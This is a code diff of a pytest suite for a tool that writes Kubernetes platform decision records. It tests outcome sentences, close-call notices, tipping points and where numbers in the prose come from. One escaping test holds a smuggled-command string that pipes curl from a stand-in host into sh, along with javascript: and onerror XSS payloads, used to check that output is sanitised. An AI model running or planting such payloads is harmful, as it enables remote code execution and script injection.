@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 import subprocess
@@ -26,8 +27,10 @@ SECTIONS = [
     "### Consequences",
     "## More Information",
     "### Answers",
-    "### Rules That Fired",
-    "### Scores per Criterion",
+    "### Screen",
+    "### Consequences in Full",
+    "### Criteria",
+    "### Rules Applied",
     "### Fault Domains",
     "### Reproducibility",
 ]
@@ -82,13 +85,16 @@ def test_no_rule_rationale_appears_twice_in_a_record() -> None:
     for name, md in _examples().items():
         record = decision.DecisionRecord.from_json(
             (ROOT / "docs" / "examples" / "records" / name.replace(".md", ".json")).read_text(encoding="utf-8"), name)
-        for rule_id, rule in record.fired_rules.items():
+        assert record.rules_applied, name
+        for rule_id, rule in record.rules_applied.items():
             rationale = " ".join(str(rule.get("rationale", "")).split())
-            if rationale:
-                shown = report._inline(rationale)  # as the record prints it
-                assert md.count(shown) <= 1, f"{name}: the rationale of {rule_id} appears {md.count(shown)} times"
+            shown = report._inline(rationale)  # as the record prints it
+            assert md.count(shown) == 1, f"{name}: the rationale of {rule_id} appears {md.count(shown)} times"
             title = report._inline(report._lc(rule["title"]))
             assert report.body(md).lower().count(title.lower()) <= 1, f"{name}: {rule_id} is listed twice"
+        body = report.body(md)
+        for reason in report.reasons_of(record):  # each consequence once in the body: no Good/Bad mirror
+            assert body.count(report._inline(report._lc(reason.label))) <= 1, f"{name}: {reason.label} mirrored"
 
 
 def test_no_raw_floats_in_records() -> None:
@@ -97,47 +103,78 @@ def test_no_raw_floats_in_records() -> None:
         assert not found, f"{name}: raw floats {found}"
 
 
-def test_outcome_is_one_sentence_with_the_option_and_an_honest_number(saas: decision.DecisionRecord) -> None:
+def test_outcome_is_one_sentence_with_the_configuration_and_the_probability(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
     outcome = _section(md, "## Decision Outcome")
     first = outcome.strip().splitlines()[0]
-    assert first.startswith('Chosen option: "VM-backed Kubernetes nodes", with a score of ')
-    assert "not a probability" in first and first.endswith(").")
-    assert "confidence" not in report.body(md).lower()
+    assert first == ('Chosen option: "Bare metal, with Kata for untrusted pods", with a probability of 100 % that it '
+                     "is the better option.")
+    assert "confidence" not in md.lower()
     assert "Close call" not in md
     reasons = [line for line in outcome.splitlines() if re.match(r"\d\. ", line)]
-    assert 1 <= len(reasons) <= 5
-    with_probability = report.outcome_section(
-        report.outcome_of(saas).__class__(**{**report.outcome_of(saas).__dict__, "probability": 0.83,
-                                             "configuration": "4 VMs per host"}), [])
-    assert 'Chosen option: "VM-backed Kubernetes nodes" (4 VMs per host), with a probability of 83 %' \
-        .replace(" %", "%") in with_probability
+    assert 3 <= len(reasons) <= 5
+    assert reasons[0].startswith("1. Isolation (priority 5), ")  # the largest share of the difference first
+    assert "in 80 % of the draws the utility difference" in outcome
+
+
+@pytest.mark.parametrize(("answers", "kind", "first"), [
+    ({"bare_metal_mandated": True}, "one-ruled-out",
+     'Chosen option: "Bare metal", because VM-backed is ruled out: a written mandate requires bare-metal nodes.'),
+    ({"workload_class": "ci-build", "runs_untrusted_code": True, "tenancy": "single-team",
+      "sandbox_runtime_acceptable": False}, "both-ruled-out", "Chosen option: none. Both options are ruled out: bare "
+     "metal because "),
+    ({}, "measure-first", 'Chosen option: none yet, measure first. "VM-backed" leads, with a probability of'),
+])
+def test_each_outcome_kind_has_its_own_sentence(answers: dict[str, object], kind: str, first: str) -> None:
+    prof = profiles.Profile(pipeline.load_questionnaire(), {"workload_name": "w", **answers})
+    rec = pipeline.decide(prof, date="2026-11-28")
+    assert rec.outcome == kind
+    line = _section(report.to_markdown(rec), "## Decision Outcome").strip().splitlines()[0]
+    assert line.startswith(first), line
+    if kind == "both-ruled-out":
+        assert "; VM-backed because " in line  # which constraint rules out which option
+        assert rec.recommendation == "none" and rec.title.startswith("Neither bare-metal nor VM-backed")
+    if kind == "measure-first":
+        assert "a measurement of " in line and rec.recommendation == "none"
+
+
+def test_a_tie_is_its_own_sentence(saas: decision.DecisionRecord) -> None:
+    tie = saas.decision.model_copy(update={"outcome": "tie", "recommendation": None, "configuration": None})
+    md = report.to_markdown(saas.model_copy(update={"decision": tie, "outcome": "tie", "recommendation": "none"}))
+    line = _section(md, "## Decision Outcome").strip().splitlines()[0]
+    assert line.startswith("Chosen option: none, a tie. Neither option is better")
+    assert "ruled out" not in line
 
 
 def test_close_call_is_called_out_until_measured(saas: decision.DecisionRecord) -> None:
-    close = saas.model_copy(update={"close": True, "margin": 0.08})
+    close = saas.model_copy(update={"close": True})
     md = report.to_markdown(close)
-    assert "> **Close call.** The margin 0.08 is under 0.15: measure both candidate platforms" in md
+    assert "> **Close call.** Measure both candidate platforms (see Confirmation) before accepting" in md
     measured = close.model_copy(update={"measurements": decision.MeasurementsInfo(
         path="m.yaml", sha256="0" * 64, verdicts=[{"probe": "net", "ratio": 1.03, "ci_low": 1.01, "ci_high": 1.05,
-                                                   "verdict": "slower"}])})
+                                                   "alpha": 0.01, "verdict": "slower"}])})
     md = report.to_markdown(measured)
     assert "Close call" not in md and "before accepting" not in md
-    assert "stays under 0.15 after measuring" in md
+    assert "It stays close after measuring" in md
+    confirmation = _section(md, "### Confirmation")
+    assert "95 %" not in confirmation and "confidence" not in confirmation
+    assert "always-valid sequential interval" in confirmation and "1.010 to 1.050 (alpha 0.01)" in confirmation
 
 
 def test_knocked_out_option_is_a_constraint() -> None:
     md = report.to_markdown(_record("regulated-bank-mandate"))
     drivers = _section(md, "## Decision Drivers")
-    assert "- Constraint: VM-backed is ruled out, because " in drivers and "(`bare-metal-mandated`)" in drivers
+    assert "- Constraint on VM-backed: a written mandate requires bare-metal nodes" in drivers
     outcome = _section(md, "## Decision Outcome")
-    assert outcome.strip().startswith('Chosen option: "Bare-metal Kubernetes nodes", because VM-backed is ruled out')
+    assert outcome.strip().startswith('Chosen option: "Bare metal, with dedicated node pools per tenant", because '
+                                      "VM-backed is ruled out")
+    assert "(`written-mandate`)" in outcome
 
 
 def test_rules_cite_evidence_with_grades_once(saas: decision.DecisionRecord) -> None:
     md = report.to_markdown(saas)
-    rules = _section(md, "### Rules That Fired")
-    for rule_id, rule in saas.fired_rules.items():
+    rules = _section(md, "### Rules Applied")
+    for rule_id, rule in saas.rules_applied.items():
         assert f"`{rule_id}`" in rules
         for ev in rule["evidence"]:
             if ev.get("url"):
@@ -163,24 +200,23 @@ def test_measurements_are_shown_once(saas: decision.DecisionRecord) -> None:
 
 def test_what_would_change_the_answer_is_sentences_merged_and_ordered(saas: decision.DecisionRecord) -> None:
     points = [
-        {"key": "tenant_count", "current": 400, "condition": "tenant_count < 3", "recommendation": "bare-metal",
-         "relative_change": 0.9925, "sentence": "revisit if tenant_count drops below 3"},
-        {"key": "latency_p99_ms", "current": 200.0, "condition": "latency_p99_ms < 1", "recommendation": "bare-metal",
-         "relative_change": 0.995, "sentence": "revisit if latency_p99_ms drops below 1"},
-        {"key": "latency_p99_ms", "current": 200.0, "condition": "latency_p99_ms < 0.1",
-         "recommendation": "bare-metal", "relative_change": 0.9995,
-         "sentence": "revisit if latency_p99_ms drops below 0.1"},
+        {"key": "tenant_count", "condition": "tenant_count < 3", "relative_change": 0.9925,
+         "sentence": "Lowering the tenants to under 3 would make VM-backed the better option."},
+        {"key": "latency_p99_ms", "condition": "latency_p99_ms > 400", "relative_change": 1.0,
+         "sentence": "Raising the p99 latency SLO above 400 ms would make VM-backed the better option."},
+        {"key": "latency_p99_ms", "condition": "latency_p99_ms > 400", "relative_change": 1.0,
+         "sentence": "Raising the p99 latency SLO above 400 ms would make VM-backed the better option."},
+        {"key": "priority_isolation", "condition": "priority_isolation < 2", "relative_change": 0.6,
+         "sentence": "lowering the isolation priority to 1 would make VM-backed the better option"},
     ]
-    triggers = ["tenant_count < 3", "not (latency_p99_ms < 10)", "crd_count > 200"]
-    md = report.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": triggers}))
+    md = report.to_markdown(saas.model_copy(update={"tipping_points": points, "revisit_triggers": []}))
     section = _section(md, "### What Would Change the Answer")
     lines = [line for line in section.splitlines() if line.startswith("- ")]
-    assert lines[0] == ("- How many tenants share the platform? (now 400): if it drops below 3, the recommendation "
-                        "becomes bare metal.")
-    assert lines[1].startswith("- p99 end-to-end latency SLO, in milliseconds (now 200): if it drops below 1,")
-    assert sum("latency" in line for line in lines) == 1, "one sentence per answer"
-    assert "- How many CRDs are installed across the clusters?: revisit if it rises above 200." in lines
+    assert lines[0] == "- Lowering the isolation priority to 1 would make VM-backed the better option."
+    assert lines[1].startswith("- Lowering the tenants to under 3")
+    assert sum("latency" in line for line in lines) == 1, "each sentence once"
     assert "`" not in "\n".join(lines[:-1]) and "not (" not in section
+    assert lines[-1].startswith("- In any case, review this decision by ")
     none = report.to_markdown(saas.model_copy(update={"tipping_points": [], "revisit_triggers": [],
                                                       "review_by": None}))
     assert "No single change of one answer flips" in none
@@ -223,12 +259,12 @@ def test_user_strings_are_escaped(saas: decision.DecisionRecord) -> None:
     hostile = "x; curl evil.example | sh; .yaml\n# injected\n[a](javascript:alert(1)) <img src=x onerror=alert(1)>"
     context = [dict(c) for c in saas.context]
     context[0] = {**context[0], "answer": hostile, "note": hostile}
-    rules = {k: dict(v) for k, v in saas.fired_rules.items()}
+    rules = {k: dict(v) for k, v in saas.rules_applied.items()}
     first = next(iter(rules))
     rules[first]["evidence"] = [{"source": "s", "grade": "peer-reviewed", "url": "javascript:alert(1)"}]
     profile = saas.profile.model_copy(update={"path": "x; curl evil.example | sh; .yaml"})
     md = report.to_markdown(saas.model_copy(update={
-        "title": "A | B <script> *x*", "workload": "w_1\n## Owned", "context": context, "fired_rules": rules,
+        "title": "A | B <script> *x*", "workload": "w_1\n## Owned", "context": context, "rules_applied": rules,
         "profile": profile, "command": "advisor assess --profile 'x; curl evil.example | sh; .yaml'"}))
     assert "# A \\| B &lt;script> \\*x\\*" in md
     assert "**w\\_1 \\#\\# Owned**" in md
@@ -338,3 +374,74 @@ def test_index_escapes_titles(tmp_path: Path, saas: decision.DecisionRecord) -> 
     decision.write_record(rec, tmp_path, report.to_markdown)
     text = records.index_text(records.load_all(tmp_path))
     assert "<img" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
+
+
+# ----------------------------------------------------------------- numbers in prose
+
+_NUMBER = re.compile(r"(?<![\w.\-/])[-+]?\d[\d,]*(?:\.\d+)?")
+_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
+#: The method's own constants the body names: the priority scale and the width of the interval.
+_METHOD = (1.0, 5.0, 80.0)
+
+
+def _numeric_leaves(node: object) -> list[float]:
+    if isinstance(node, bool):
+        return []
+    if isinstance(node, (int, float)):
+        return [float(node)]
+    if isinstance(node, str):
+        return [float(m.group(0).replace(",", "")) for m in _NUMBER.finditer(node)]
+    if isinstance(node, dict):
+        return [x for v in node.values() for x in _numeric_leaves(v)]
+    if isinstance(node, list):
+        return [x for v in node for x in _numeric_leaves(v)]
+    return []
+
+
+def _allowed(record: decision.DecisionRecord) -> list[float]:
+    """The user's numbers (answers, measurements) and every number the decision computed from them."""
+    data = json.loads(record.to_json())
+    decided = data["decision"]
+    user = _numeric_leaves(data["profile"]["answers"]) + _numeric_leaves([c["answer"] for c in data["context"]])
+    computed = [x for key, value in decided.items() if key not in ("sentence", "constraints", "options")
+                for x in _numeric_leaves(value) if not isinstance(value, str)]
+    computed += _numeric_leaves(data["graph"]) + _numeric_leaves(data["measurements"]) + [float(record.number)]
+    computed += [float(len(data["context"])), float(sum(1 for c in data["context"] if not c.get("default")))]
+    computed += [float(o["configurations"]) for o in decided["options"].values()]
+    computed += [float(o["feasible_configurations"]) for o in decided["options"].values()]
+    base = user + computed + list(_METHOD)
+    return base + [x * 100 for x in base]
+
+
+def _prose(md: str) -> str:
+    """The body without code blocks and code spans (commands, rule ids, paths)."""
+    text = re.sub(r"```.*?```", " ", report.body(md), flags=re.S)
+    text = re.sub(r"`[^`]*`", " ", text)
+    return _DATE.sub(" ", text.split("\n---\n", 1)[-1])
+
+
+def _decimals(token: str) -> int:
+    return len(token.split(".")[1]) if "." in token else 0
+
+
+def test_prose_numbers_are_the_users_or_computed_from_them() -> None:
+    """Issue 11: no canned number in a record's body (each example record)."""
+    folder = ROOT / "docs" / "examples" / "records"
+    for path in sorted(folder.glob("*.json")):
+        record = decision.DecisionRecord.from_json(path.read_text(encoding="utf-8"), path.name)
+        allowed = _allowed(record)
+        md = report.to_markdown(record)
+        for m in _NUMBER.finditer(_prose(md)):
+            token = m.group(0).lstrip("+-").replace(",", "")
+            x = float(token)
+            # a shown number rounds the value it stands for: 3 significant digits, or its decimals
+            tol = max(0.5 * 10 ** -_decimals(token), abs(x) * 0.005) + 1e-9
+            assert any(abs(abs(v) - x) <= tol for v in allowed), (
+                f"{path.name}: {m.group(0)!r} in {_prose(md)[max(0, m.start() - 60):m.end() + 40]!r} is neither "
+                "an answer nor computed from the answers")
+
+
+def test_the_numbers_test_catches_a_canned_number(saas: decision.DecisionRecord) -> None:
+    canned = saas.model_copy(update={"title": "20 hosts of 64 cores cost about 450,000 a year"})
+    allowed = _allowed(canned)
+    assert not any(abs(v - 450000) <= 2250 for v in allowed)
